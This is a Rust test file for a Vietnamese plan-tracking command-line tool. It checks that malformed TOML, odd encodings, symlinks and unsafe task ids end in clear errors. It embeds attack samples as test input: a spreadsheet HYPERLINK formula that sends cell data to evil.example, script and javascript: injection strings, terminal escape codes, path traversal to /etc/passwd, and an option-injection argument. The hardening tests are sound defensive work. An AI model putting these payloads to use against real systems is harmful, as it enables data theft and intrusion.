//! Hostile input: what people type, paste from Word, email as attachments and merge in a hurry.
//! One test per input, each on a fresh copy of `tests/fixtures/check-base/plan` in a temporary
//! folder, run through the built binary with a deadline (a hang fails the test), with the exact
//! exit code, stdout and stderr asserted. Every case ends in a located error, or is handled
//! safely (a warning, an escaped cell, a refusal), and never in a panic.

#[path = "support/sandbox.rs"]
mod sandbox;
use sandbox::{Plan, TASK, out};
use std::process::Command;

/// `check` on the plan with the task file replaced by `bytes` reports exactly `stdout`.
fn check_task(bytes: impl AsRef<[u8]>, code: i32, stdout: &str) {
    let p = Plan::new();
    p.put(TASK, bytes);
    assert_eq!(p.check(), out(code, stdout, ""));
}

fn one_error(line_col: &str, msg: &str) -> String {
    format!("plan/tasks/1/1.2.toml:{line_col}: lỗi: {msg}\n1 lỗi, 0 cảnh báo trong 1/5 tệp\n")
}

const CLEAN: &str = "0 lỗi, 0 cảnh báo trong 0/5 tệp\n";

// ---------------------------------------------------------------------------------------------
// Invalid TOML, one kind per test.

#[test]
fn toml_unclosed_string() {
    check_task(
        "id = \"1.2\n",
        1,
        &one_error(
            "1:10",
            "lỗi cú pháp TOML: invalid basic string, expected `\"`",
        ),
    );
}

#[test]
fn toml_key_without_equals() {
    check_task(
        "id \"1.2\"\n",
        1,
        &one_error("1:4", "lỗi cú pháp TOML: key with no value, expected `=`"),
    );
}

#[test]
fn toml_key_without_value() {
    check_task(
        "id =\n",
        1,
        &one_error(
            "1:5",
            "lỗi cú pháp TOML: string values must be quoted, expected literal string",
        ),
    );
}

#[test]
fn toml_duplicate_key() {
    check_task(
        "id = \"1.2\"\nid = \"1.3\"\n",
        1,
        &one_error("2:1", "lỗi cú pháp TOML: duplicate key"),
    );
}

#[test]
fn toml_table_defined_twice() {
    check_task(
        "[source]\n[source]\n",
        1,
        &one_error("2:2", "lỗi cú pháp TOML: duplicate key"),
    );
}

#[test]
fn toml_dotted_key_then_value() {
    check_task(
        "a.b = 1\na = 2\n",
        1,
        &one_error("2:1", "lỗi cú pháp TOML: duplicate key"),
    );
}

#[test]
fn toml_unclosed_array() {
    check_task(
        "lead = [\"a\",\n",
        1,
        &one_error("1:13", "lỗi cú pháp TOML: unclosed array, expected `]`"),
    );
}

#[test]
fn toml_unclosed_array_of_tables_header() {
    check_task(
        "[[progress]\n",
        1,
        &one_error(
            "1:12",
            "lỗi cú pháp TOML: unclosed array table, expected `]`",
        ),
    );
}

#[test]
fn toml_bad_escape() {
    check_task(
        "title = \"C:\\qdata\"\n",
        1,
        &one_error(
            "1:13",
            "lỗi cú pháp TOML: missing escaped value, expected `b`, `e`, `f`, `n`, `r`, `\\`, `\"`, `x`, `u`, `U`",
        ),
    );
}

#[test]
fn toml_quote_inside_literal_string() {
    check_task(
        "title = 'it's'\n",
        1,
        &one_error(
            "1:13",
            "lỗi cú pháp TOML: unexpected key or value, expected newline, `#`",
        ),
    );
}

#[test]
fn toml_unterminated_multiline_string() {
    check_task(
        "note = \"\"\"abc\n",
        1,
        &one_error(
            "2:1",
            "lỗi cú pháp TOML: invalid multi-line basic string, expected `\"`",
        ),
    );
}

#[test]
fn toml_bare_words_as_pasted_from_word() {
    check_task(
        "Nhiệm vụ 1.2: Số hóa hồ sơ\n",
        1,
        &one_error("1:7", "lỗi cú pháp TOML: key with no value, expected `=`"),
    );
}

#[test]
fn toml_impossible_date() {
    check_task(
        "done_on = 2024-13-45\n",
        1,
        &one_error(
            "1:11",
            "lỗi cú pháp TOML: invalid date, expected month between 01 and 12",
        ),
    );
}

#[test]
fn toml_integer_too_large() {
    let p = Plan::new();
    let t = p
        .task()
        .replace("percent = 50", "percent = 99999999999999999999");
    p.put(TASK, t);
    assert_eq!(
        p.check(),
        out(
            1,
            &one_error(
                "24:11",
                "số `99999999999999999999` quá lớn\n  gợi ý: ghi một số nhỏ hơn (tối đa 9223372036854775807)"
            ),
            ""
        )
    );
}

#[test]
fn toml_wrong_type() {
    let p = Plan::new();
    let t = p
        .task()
        .replace("lead = [\"so-tttt\"]", "lead = \"so-tttt\"");
    p.put(TASK, t);
    assert_eq!(
        p.check(),
        out(
            1,
            &one_error(
                "4:8",
                "`lead` cần một danh sách, không phải một giá trị\n  gợi ý: viết `lead = [\"so-tttt\"]`"
            ),
            ""
        )
    );
}

// ---------------------------------------------------------------------------------------------
// Size and shape.

#[test]
fn a_50_mb_task_file_is_refused_unread() {
    let p = Plan::new();
    let mut big = b"title = \"".to_vec();
    big.resize(50 * 1024 * 1024, b'x');
    big.extend_from_slice(b"\"\n");
    p.put(TASK, &big);
    assert_eq!(
        p.check(),
        out(
            1,
            "plan/tasks/1/1.2.toml: lỗi: tệp quá lớn (52428802 byte, tối đa 4194304 byte); đây không phải tệp nhiệm vụ\n1 lỗi, 0 cảnh báo trong 1/5 tệp\n",
            ""
        )
    );
}

#[test]
fn a_100000_character_title_loads_and_lists() {
    let p = Plan::new();
    let long = "ư".repeat(100_000);
    let t = p
        .task()
        .replace("title = \"Số", &format!("title = \"{long} Số"));
    p.put(TASK, t);
    assert_eq!(p.check(), out(0, CLEAN, ""));
    let list = p.run(&["list", "--as-of", "2024-06-30"]);
    assert_eq!((list.code, list.stderr.as_str()), (0, ""));
    assert!(list.stdout.contains("ưưư"), "{}", list.stdout);
}

#[test]
fn a_100000_character_line_that_is_not_toml() {
    check_task(
        format!("title = \"{}\n", "x".repeat(100_000)),
        1,
        &one_error(
            "1:100010",
            "lỗi cú pháp TOML: invalid basic string, expected `\"`",
        ),
    );
}

#[test]
fn deeply_nested_arrays() {
    let n = 100_000;
    check_task(
        format!("x = {}{}\n", "[".repeat(n), "]".repeat(n)),
        1,
        &one_error(
            "1:85",
            "lỗi cú pháp TOML: cannot recurse further; max recursion depth met",
        ),
    );
}

#[test]
fn deeply_nested_inline_tables() {
    let n = 100_000;
    check_task(
        format!("x = {}1{}\n", "{a=".repeat(n), "}".repeat(n)),
        1,
        &one_error(
            "1:245",
            "lỗi cú pháp TOML: cannot recurse further; max recursion depth met",
        ),
    );
}

#[test]
fn deeply_nested_table_header() {
    let header = vec!["a"; 100_000].join(".");
    let p = Plan::new();
    p.put(TASK, format!("[{header}]\n"));
    assert_eq!(
        p.check(),
        out(
            1,
            &one_error("1:1", "lỗi cú pháp TOML: recursion limit"),
            ""
        )
    );
    // The editing commands refuse it too, without touching the file.
    assert_eq!(
        p.run(&["fmt", "plan/tasks/1/1.2.toml"]),
        out(
            1,
            "",
            "plan/tasks/1/1.2.toml:1:1: lỗi: lỗi cú pháp TOML: recursion limit\nkhông định dạng `plan/tasks/1/1.2.toml`: tệp giữ nguyên; sửa lỗi trên rồi chạy lại\n"
        )
    );
    assert_eq!(p.read(TASK), format!("[{header}]\n").into_bytes());
}

// ---------------------------------------------------------------------------------------------
// NUL bytes and control characters.

#[test]
fn a_nul_byte_after_a_value() {
    check_task(
        "id = \"1.2\"\0\n",
        1,
        &one_error(
            "1:11",
            "lỗi cú pháp TOML: unexpected key or value, expected newline, `#`",
        ),
    );
}

#[test]
fn a_nul_byte_inside_a_string() {
    check_task(
        "title = \"a\0b\"\n",
        1,
        &one_error(
            "1:11",
            "lỗi cú pháp TOML: invalid basic string, expected non-double-quote visible characters, `\\`",
        ),
    );
}

#[test]
fn a_raw_escape_character_inside_a_string() {
    check_task(
        "title = \"a\x1b[31mb\"\n",
        1,
        &one_error(
            "1:11",
            "lỗi cú pháp TOML: invalid basic string, expected non-double-quote visible characters, `\\`",
        ),
    );
}

#[test]
fn escaped_control_characters_never_reach_the_terminal() {
    let p = Plan::new();
    let t = p
        .task()
        .replace("lead = [\"so-tttt\"]", "lead = [\"so-\\u001b[2Jtttt\\r\"]")
        .replace(
            "title = \"Số",
            "title = \"\\u001b]0;pwned\\u0007\\u001b[31mĐỎ\\u009b Số",
        );
    p.put(TASK, t);
    let check = p.check();
    assert_eq!(
        check,
        out(
            1,
            "plan/tasks/1/1.2.toml:4:9: lỗi: đơn vị không có trong danh mục: `so-␛[2Jtttt␍`\n  gợi ý: thêm đơn vị vào units.toml, hoặc xem `tiendo units`\n1 lỗi, 0 cảnh báo trong 1/5 tệp\n",
            ""
        )
    );
    let show = p.run(&["show", "1.2", "--as-of", "2024-06-30"]);
    assert!(
        show.stdout.contains("␛]0;pwned␇␛[31mĐỎ\u{fffd} Số"),
        "{}",
        show.stdout
    );
    for o in [&check, &show, &p.run(&["list", "--as-of", "2024-06-30"])] {
        let bad = |s: &str| s.chars().any(|c| c.is_control() && c != '\n');
        assert!(!bad(&o.stdout) && !bad(&o.stderr), "{o:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// Encodings.

#[test]
fn a_file_saved_in_tcvn3() {
    // "Việt Nam" as TCVN3 (ABC) writes it: ệ is the single byte 0xD6.
    check_task(
        b"title = \"Vi\xd6t Nam\"\n",
        1,
        "plan/tasks/1/1.2.toml:1:12: lỗi: tệp không phải UTF-8; có thể được lưu bằng bảng mã TCVN3 (ABC) hoặc Windows-1258\n  gợi ý: chuyển mã sang Unicode UTF-8 (ví dụ bằng Unikey: Công cụ chuyển mã) rồi lưu lại\n1 lỗi, 0 cảnh báo trong 1/5 tệp\n",
    );
}

#[test]
fn a_file_saved_in_windows_1258() {
    // "Việt" in Windows-1258: ê (0xEA) then the combining dot below (0xF2).
    check_task(
        b"id = \"1.2\"\ntitle = \"Vi\xea\xf2t\"\n",
        1,
        "plan/tasks/1/1.2.toml:2:12: lỗi: tệp không phải UTF-8; có thể được lưu bằng bảng mã TCVN3 (ABC) hoặc Windows-1258\n  gợi ý: chuyển mã sang Unicode UTF-8 (ví dụ bằng Unikey: Công cụ chuyển mã) rồi lưu lại\n1 lỗi, 0 cảnh báo trong 1/5 tệp\n",
    );
}

#[test]
fn a_file_saved_in_windows_1258_is_refused_by_update_and_fmt() {
    let p = Plan::new();
    let bytes = b"id = \"1.2\"\ntitle = \"Vi\xea\xf2t\"\n";
    p.put(TASK, bytes);
    assert_eq!(
        p.run(&["fmt", "plan/tasks/1/1.2.toml"]),
        out(
            1,
            "",
            "plan/tasks/1/1.2.toml:2:12: lỗi: tệp không phải UTF-8; có thể được lưu bằng bảng mã TCVN3 (ABC) hoặc Windows-1258\n  gợi ý: chuyển mã sang Unicode UTF-8 (ví dụ bằng Unikey: Công cụ chuyển mã) rồi lưu lại\nkhông định dạng `plan/tasks/1/1.2.toml`: tệp giữ nguyên; sửa lỗi trên rồi chạy lại\n"
        )
    );
    let u = p.run(&["update", "1.2", "--by", "so-tttt", "--note", "x"]);
    assert_eq!(u.code, 2, "{u:?}");
    assert_eq!(p.read(TASK), bytes);
}

fn utf16(le: bool, bom: bool) -> Vec<u8> {
    let mut out = vec![];
    if bom {
        out.extend_from_slice(if le { &[0xFF, 0xFE] } else { &[0xFE, 0xFF] });
    }
    for u in "id = \"1.2\"\ntitle = \"Việt\"\n".encode_utf16() {
        out.extend_from_slice(&if le { u.to_le_bytes() } else { u.to_be_bytes() });
    }
    out
}

const UTF16: &str = "plan/tasks/1/1.2.toml:1:1: lỗi: tệp được lưu dạng UTF-16, không phải UTF-8\n  gợi ý: mở tệp và lưu lại với mã hóa UTF-8\n1 lỗi, 0 cảnh báo trong 1/5 tệp\n";

#[test]
fn utf16_little_endian_with_bom() {
    check_task(utf16(true, true), 1, UTF16);
}

#[test]
fn utf16_big_endian_with_bom() {
    check_task(utf16(false, true), 1, UTF16);
}

#[test]
fn utf16_without_bom() {
    check_task(utf16(true, false), 1, UTF16);
}

#[test]
fn nfd_text_is_a_warning_pointing_at_the_first_decomposed_letter() {
    let p = Plan::new();
    let nfd: String = {
        use unicode_normalization::UnicodeNormalization;
        p.task().nfd().collect()
    };
    p.put(TASK, nfd);
    assert_eq!(
        p.check(),
        out(
            0,
            "plan/tasks/1/1.2.toml:3:11: cảnh báo: văn bản không ở dạng chuẩn NFC (dấu tiếng Việt tách rời)\n  gợi ý: chạy `tiendo fmt` để chuẩn hóa\n0 lỗi, 1 cảnh báo trong 1/5 tệp\n",
            ""
        )
    );
}

#[test]
fn mixed_crlf_and_lf_loads_and_an_update_keeps_every_line() {
    let p = Plan::new();
    let lf = p.task();
    let lines: Vec<&str> = lf.split('\n').collect();
    // The first ten lines from a Windows editor, the rest from elsewhere: LF is the majority.
    let mixed = format!("{}\r\n{}", lines[..10].join("\r\n"), lines[10..].join("\n"));
    p.put(TASK, &mixed);
    assert_eq!(p.check(), out(0, CLEAN, ""));
    let u = p.run(&[
        "update",
        "1.2",
        "--by",
        "so-tttt",
        "--note",
        "Đợt 3",
        "--date",
        "2024-06-20",
    ]);
    assert_eq!(u, out(0, "đã ghi `plan/tasks/1/1.2.toml`\n", ""));
    // Every line is still there; line ends are now all the majority's (LF).
    let after = String::from_utf8(p.read(TASK)).unwrap();
    assert_eq!(
        after,
        format!("{lf}\n[[progress]]\ndate = 2024-06-20\nby = \"so-tttt\"\nnote = \"Đợt 3\"\n")
    );
    assert_eq!(p.check(), out(0, CLEAN, ""));
}

#[test]
fn mostly_crlf_with_one_lf_line_comes_back_all_crlf() {
    let p = Plan::new();
    let lf = p.task();
    let crlf = lf.replace('\n', "\r\n");
    let mixed = crlf.replacen("\r\n", "\n", 1);
    p.put(TASK, &mixed);
    let u = p.run(&[
        "update",
        "1.2",
        "--by",
        "so-tttt",
        "--note",
        "Đợt 3",
        "--date",
        "2024-06-20",
    ]);
    assert_eq!(u.code, 0, "{u:?}");
    assert_eq!(
        String::from_utf8(p.read(TASK)).unwrap(),
        format!("{lf}\n[[progress]]\ndate = 2024-06-20\nby = \"so-tttt\"\nnote = \"Đợt 3\"\n")
            .replace('\n', "\r\n")
    );
}

// ---------------------------------------------------------------------------------------------
// The file system.

const SYMLINK: &str =
    "lỗi: liên kết tượng trưng (symlink) bị bỏ qua\n  gợi ý: chép tệp thật vào thư mục kế hoạch\n";

#[cfg(unix)]
#[test]
fn a_symlink_loop_is_reported_not_followed() {
    let p = Plan::new();
    std::os::unix::fs::symlink("loop-b", p.path("plan/tasks/loop-a")).unwrap();
    std::os::unix::fs::symlink("loop-a", p.path("plan/tasks/loop-b")).unwrap();
    std::os::unix::fs::symlink("..", p.path("plan/tasks/1/up")).unwrap();
    assert_eq!(
        p.check(),
        out(
            1,
            &format!(
                "plan/tasks/1/up: {SYMLINK}plan/tasks/loop-a: {SYMLINK}plan/tasks/loop-b: {SYMLINK}3 lỗi, 0 cảnh báo trong 3/5 tệp\n"
            ),
            ""
        )
    );
}

#[cfg(unix)]
#[test]
fn a_symlink_out_of_the_plan_folder_is_reported_not_read() {
    let p = Plan::new();
    // Outside the plan: a file that would be an error if it were read.
    p.put("outside/1.9.toml", "this is not TOML\n");
    std::os::unix::fs::symlink(p.path("outside/1.9.toml"), p.path("plan/tasks/1/1.9.toml"))
        .unwrap();
    std::os::unix::fs::symlink("/etc/passwd", p.path("plan/tasks/1/passwd.toml")).unwrap();
    assert_eq!(
        p.check(),
        out(
            1,
            &format!(
                "plan/tasks/1/1.9.toml: {SYMLINK}plan/tasks/1/passwd.toml: {SYMLINK}2 lỗi, 0 cảnh báo trong 2/5 tệp\n"
            ),
            ""
        )
    );
}

#[cfg(unix)]
#[test]
fn an_unreadable_file() {
    use std::os::unix::fs::PermissionsExt;
    let p = Plan::new();
    let path = p.path(TASK);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o000)).unwrap();
    let got = p.check();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o000)).unwrap();
    let root_can_read = std::fs::read(&path).is_ok();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    if root_can_read {
        // Running as root (CI containers): permissions do not stop reading, the plan is clean.
        assert_eq!(got, out(0, CLEAN, ""));
    } else {
        assert_eq!(
            got,
            out(
                1,
                "plan/tasks/1/1.2.toml: lỗi: không đọc được tệp: permission denied\n1 lỗi, 0 cảnh báo trong 1/5 tệp\n",
                ""
            )
        );
    }
}

#[test]
fn a_file_deleted_while_the_plan_is_read() {
    // Walking found the file; by the time it is read it is gone. The same code path as
    // `load`, called directly because the race cannot be timed from outside.
    let p = Plan::new();
    let path = p.path(TASK);
    std::fs::remove_file(&path).unwrap();
    let (task, problems) = tiendo::load::load_task_file(&path, "plan/tasks/1/1.2.toml");
    assert!(task.is_none());
    assert_eq!(
        tiendo::render::problems::text(&problems, tiendo::i18n::tr(tiendo::i18n::Lang::Vi)),
        "plan/tasks/1/1.2.toml: lỗi: không đọc được tệp: not found\n"
    );
}

#[cfg(unix)]
#[test]
fn a_dangling_symlink_where_a_task_file_was() {
    let p = Plan::new();
    std::fs::remove_file(p.path(TASK)).unwrap();
    std::os::unix::fs::symlink("gone.toml", p.path(TASK)).unwrap();
    assert_eq!(
        p.check(),
        out(
            1,
            &format!(
                "plan/plan.toml:12:6: lỗi: nhóm `1` có 1 nhiệm vụ, kế hoạch ghi 2\nplan/tasks/1/1.2.toml: {SYMLINK}2 lỗi, 0 cảnh báo trong 2/4 tệp\n"
            ),
            ""
        )
    );
}

// ---------------------------------------------------------------------------------------------
// Ids that are not safe file names.

#[test]
fn an_id_that_climbs_out_of_the_folder() {
    let p = Plan::new();
    let t = p.task().replace("id = \"1.2\"", "id = \"../x\"");
    p.put(TASK, t);
    assert_eq!(
        p.check(),
        out(
            1,
            "plan/tasks/1/1.2.toml:1:6: lỗi: mã `../x` không dùng làm tên tệp được: có ký tự `/`\n  gợi ý: chỉ dùng chữ, số, `.`, `-`, `_`, ví dụ `9.1.13`\nplan/tasks/1/1.2.toml:1:6: cảnh báo: mã `../x` không bắt đầu bằng mã nhóm `1.`\n1 lỗi, 1 cảnh báo trong 1/5 tệp\n",
            ""
        )
    );
}

#[test]
fn an_id_reserved_by_windows() {
    let p = Plan::new();
    let t = p.task().replace("id = \"1.2\"", "id = \"CON\"");
    p.put(TASK, t);
    assert_eq!(
        p.check(),
        out(
            1,
            "plan/tasks/1/1.2.toml:1:6: lỗi: mã `CON` không dùng làm tên tệp được: tên dành riêng của Windows\n  gợi ý: chỉ dùng chữ, số, `.`, `-`, `_`, ví dụ `9.1.13`\nplan/tasks/1/1.2.toml:1:6: cảnh báo: mã `CON` không bắt đầu bằng mã nhóm `1.`\n1 lỗi, 1 cảnh báo trong 1/5 tệp\n",
            ""
        )
    );
}

#[test]
fn new_refuses_unsafe_ids_and_writes_nothing() {
    let p = Plan::new();
    for (id, why) in [
        ("../x", "có ký tự `/`"),
        ("CON", "tên dành riêng của Windows"),
        ("nul.txt", "tên dành riêng của Windows"),
    ] {
        let got = p.run(&[
            "new",
            "--id",
            id,
            "--group",
            "1",
            "--title",
            "t",
            "--lead",
            "ca-tinh",
            "--deadline",
            "Năm 2024",
        ]);
        assert_eq!(
            got,
            out(
                2,
                "",
                &format!(
                    "tiendo: lỗi: không tạo được nhiệm vụ: mã `{id}` không dùng làm tên tệp được: {why}\n"
                )
            )
        );
    }
    assert!(!p.path("plan/x.toml").exists() && !p.path("plan/tasks/x.toml").exists());
    assert!(!p.path("plan/tasks/1/CON.toml").exists());
}

#[test]
fn a_path_as_a_task_argument_is_just_an_unknown_task() {
    let p = Plan::new();
    assert_eq!(
        p.run(&["show", "../../etc/passwd"]),
        out(
            2,
            "",
            "tiendo: lỗi: không có nhiệm vụ `../../etc/passwd`; `tiendo list` liệt kê mọi mã\n"
        )
    );
}

// ---------------------------------------------------------------------------------------------
// Empty things.

#[test]
fn an_empty_task_file() {
    check_task("", 1, &one_error("1:1", "thiếu khóa bắt buộc `id`"));
}

#[test]
fn a_task_file_of_blank_lines() {
    check_task(
        "\n\n   \n\t\n",
        1,
        &one_error("1:1", "thiếu khóa bắt buộc `id`"),
    );
}

#[test]
fn an_empty_plan_toml() {
    let p = Plan::new();
    p.put("plan/plan.toml", "");
    let got = p.check();
    assert_eq!(got.code, 1);
    assert!(
        got.stdout
            .starts_with("plan/plan.toml:1:1: lỗi: thiếu khóa bắt buộc `code`\n"),
        "{}",
        got.stdout
    );
}

#[test]
fn a_plan_folder_with_no_tasks() {
    let p = Plan::new();
    std::fs::remove_dir_all(p.path("plan/tasks")).unwrap();
    assert_eq!(
        p.check(),
        out(
            1,
            "plan/plan.toml:12:6: lỗi: nhóm `1` có 0 nhiệm vụ, kế hoạch ghi 2\nplan/plan.toml:17:6: lỗi: nhóm `2` có 0 nhiệm vụ, kế hoạch ghi 1\nplan/tasks: cảnh báo: kế hoạch chưa có nhiệm vụ nào\n  gợi ý: tạo nhiệm vụ bằng `tiendo new`\n2 lỗi, 1 cảnh báo trong 1/2 tệp\n",
            ""
        )
    );
}

#[test]
fn an_empty_plan_folder() {
    let p = Plan::new();
    std::fs::remove_dir_all(p.path("plan")).unwrap();
    std::fs::create_dir(p.path("plan")).unwrap();
    assert_eq!(
        p.check(),
        out(
            1,
            "plan/plan.toml: lỗi: thiếu tệp này\n  gợi ý: xem docs/format.md để biết nội dung cần có\nplan/tasks: cảnh báo: kế hoạch chưa có nhiệm vụ nào\n  gợi ý: tạo nhiệm vụ bằng `tiendo new`\nplan/units.toml: lỗi: thiếu tệp này\n  gợi ý: xem docs/format.md để biết nội dung cần có\n2 lỗi, 1 cảnh báo trong 2/2 tệp\n",
            ""
        )
    );
}

// ---------------------------------------------------------------------------------------------
// Text that would break the outputs it reaches.

#[test]
fn markdown_breaking_text_stays_inside_its_cell_in_the_report() {
    let p = Plan::new();
    let t = p
        .task()
        .replace(
            "title = \"Số hóa hồ sơ, kết quả giải quyết thủ tục hành chính\"",
            "title = \"A | B <script>alert(1)</script> `code` **đậm**\\n# Tiêu đề giả\\n| x | y |\"",
        )
        .replace(
            "note = \"Bố trí kinh phí số hóa đợt 2.\"",
            "note = \"N | <img src=x onerror=alert(1)> ``` \\n\\n- [link](javascript:alert(1))\"",
        );
    p.put(TASK, t);
    let r = p.run(&["report", "--month", "2024-06", "--as-of", "2024-06-30"]);
    assert_eq!((r.code, r.stderr.as_str()), (0, ""));
    let title = "A \\| B &lt;script&gt;alert(1)&lt;/script&gt; \\`code\\` \\*\\*đậm\\*\\* # Tiêu đề giả \\| x \\| y \\|";
    let lines: Vec<&str> = r
        .stdout
        .lines()
        .filter(|l| l.contains("Tiêu đề giả"))
        .collect();
    assert_eq!(
        lines,
        [
            format!("| 1.2 | {title} | Sở TT&TT | Trước ngày 01/7/2024 | 30/06/2024 |").as_str(),
            format!("### 1.2 — {title}").as_str(),
            format!("| 1.2 | {title} | Sở TT&TT | Sở Tài chính | Trước ngày 01/7/2024 | 30/06/2024 | Đang thực hiện trong hạn |").as_str(),
        ]
    );
    assert!(
        r.stdout.contains("\n- 14/06/2024, Sở Tài chính: N \\| &lt;img src=x onerror=alert(1)&gt; \\`\\`\\`<br><br>- \\[link\\](javascript:alert(1))\n"),
        "{}",
        r.stdout
    );
    // Parsed as Markdown: no HTML but the line breaks, no link, no heading made from the text.
    use pulldown_cmark::{Event, Parser, Tag, TagEnd};
    let mut heading: Option<String> = None;
    for e in Parser::new_ext(&r.stdout, pulldown_cmark::Options::ENABLE_TABLES) {
        match e {
            Event::Html(h) | Event::InlineHtml(h) => assert!(
                &*h == "<br>"
                    || h.starts_with("<!-- Báo cáo do tiendo tạo")
                    || ["<!-- ghi-chu -->", "<!-- /ghi-chu -->"].contains(&h.trim()),
                "{h}"
            ),
            Event::Start(Tag::Link { .. }) => panic!("a link came from the text"),
            Event::Start(Tag::Heading { .. }) => heading = Some(String::new()),
            Event::Text(t) | Event::Code(t) => {
                if let Some(h) = &mut heading {
                    h.push_str(&t);
                }
            }
            Event::End(TagEnd::Heading(_)) => {
                let h = heading.take().unwrap_or_default();
                assert!(!h.starts_with("Tiêu đề giả"), "{h}");
            }
            _ => {}
        }
    }
}

#[test]
fn a_formula_in_a_title_is_text_in_csv() {
    let p = Plan::new();
    let t = p.task().replace(
        "title = \"Số hóa hồ sơ, kết quả giải quyết thủ tục hành chính\"",
        "title = \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Bấm\\\")\"",
    );
    p.put(TASK, t);
    let cell = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm\"\")\"";
    for args in [
        &["list", "--format", "csv", "--as-of", "2024-06-30"][..],
        &["export", "--format", "csv", "--as-of", "2024-06-30"][..],
    ] {
        let o = p.run(args);
        assert_eq!((o.code, o.stderr.as_str()), (0, ""), "{args:?}");
        // `list` has the machine columns (id first); `export`'s table for people starts with STT.
        let row = o
            .stdout
            .lines()
            .find(|l| l.starts_with("1.2,") || l.contains(",1.2,1,"))
            .unwrap_or_else(|| panic!("{}", o.stdout));
        assert!(row.contains(&format!("1.2,1,{cell},")), "{row}");
    }
}

#[test]
fn a_revision_that_looks_like_an_option_is_refused() {
    let p = Plan::new();
    let git = |args: &[&str]| {
        let o = Command::new("git")
            .current_dir(&p.root)
            .args(args)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_SYSTEM", "/dev/null")
            .env("GIT_AUTHOR_NAME", "T")
            .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
            .env("GIT_COMMITTER_NAME", "T")
            .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
            .output()
            .unwrap();
        assert!(o.status.success(), "{o:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "plan"]);
    let target = p.path("x");
    let arg = format!("--output={}", target.display());
    let got = p.run(&["diff", "--", &arg]);
    assert_eq!(got.code, 2, "{got:?}");
    assert_eq!(got.stdout, "");
    assert!(got.stderr.contains("not a valid revision"), "{got:?}");
    assert!(!target.exists());
}

#[test]
fn fmt_leaves_a_date_string_with_a_sign_alone() {
    // Found by the `fmt` fuzz target: `"-999-01-01"` was turned into `64537-01-01`, which is
    // not TOML, and written. Now it stays a string (in its canonical place) for `check` to flag.
    let p = Plan::new();
    let t = p.task();
    p.put(
        TASK,
        t.replace(
            "status = \"doing\"",
            "status = \"doing\"\ndue = \"-999-01-01\"",
        ),
    );
    assert_eq!(
        p.run(&["fmt", "plan/tasks/1/1.2.toml"]),
        out(0, "", "plan/tasks/1/1.2.toml\nđã định dạng lại 1 tệp\n")
    );
    assert_eq!(
        String::from_utf8(p.read(TASK)).unwrap(),
        t.replace(
            "status = \"doing\"",
            "due = \"-999-01-01\"\nstatus = \"doing\""
        )
    );
    assert_eq!(
        p.check(),
        out(
            1,
            &one_error(
                "7:7",
                "ghi chữ \"-999-01-01\" nhưng ở đây cần ngày dạng 2024-07-12\n  gợi ý: viết lại giá trị thành ngày dạng 2024-07-12"
            ),
            ""
        )
    );
}
